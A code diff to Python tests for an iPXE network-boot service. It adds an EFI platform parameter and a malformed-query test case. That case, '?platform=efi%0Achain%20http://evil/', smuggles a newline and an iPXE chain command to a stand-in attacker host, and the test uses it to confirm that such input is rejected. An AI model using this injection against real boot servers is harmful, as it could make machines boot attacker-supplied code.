@@ -71,7 +71,8 @@ def test_boot_ipxe_chains_back_to_the_address_it_was_fetched_from(service: Threa
 
 def test_a_machine_boots_through_its_life_and_every_boot_is_in_its_history(
         service: ThreadServer) -> None:
-    query = f"/v1/ipxe?uuid={UUID}&mac={MAC.replace(':', '-')}&hostname=node1&serial=S1"
+    query = (f"/v1/ipxe?uuid={UUID}&mac={MAC.replace(':', '-')}&hostname=node1&serial=S1"
+             "&platform=efi")
     status, script = get(service, query)
     assert status == 200
     assert f"kernel {service.url}/v1/assets/vmlinuz " in script
@@ -103,7 +104,8 @@ def test_a_machine_boots_through_its_life_and_every_boot_is_in_its_history(
                        ("scheduled", "installing"), ("installing", "installing"),
                        ("installing", "installed"), ("installed", "installed")]
     assert history[0]["reason"].startswith("boot request: unknown: discovery profile")
-    assert "mac=52:54:00:aa:00:01, hostname=node1, serial=S1" in history[0]["reason"]
+    assert "mac=52:54:00:aa:00:01, hostname=node1, serial=S1, platform=efi" \
+        in history[0]["reason"]
     assert history[4]["reason"].startswith("boot request: installing: install profile")
     assert history[6]["reason"].startswith("boot request: installed: boot from the local disk")
 
@@ -138,6 +140,7 @@ def test_the_boot_token_is_short_lived_and_expired_ones_are_cleaned_up(
     "?uuid=" + "a" * 5000,
     "?mac=52-54-00-aa-00-01&mac=52-54-00-aa-00-02&uuid=%00%ff",
     "?hostname=" + "%C3%A9" * 300 + "&serial=%FF%FE",
+    "?platform=efi%0Achain%20http://evil/&mac=52-54-00-aa-00-03",
 ])
 def test_malformed_queries_get_the_generic_discovery_script(service: ThreadServer,
                                                             query: str) -> None:
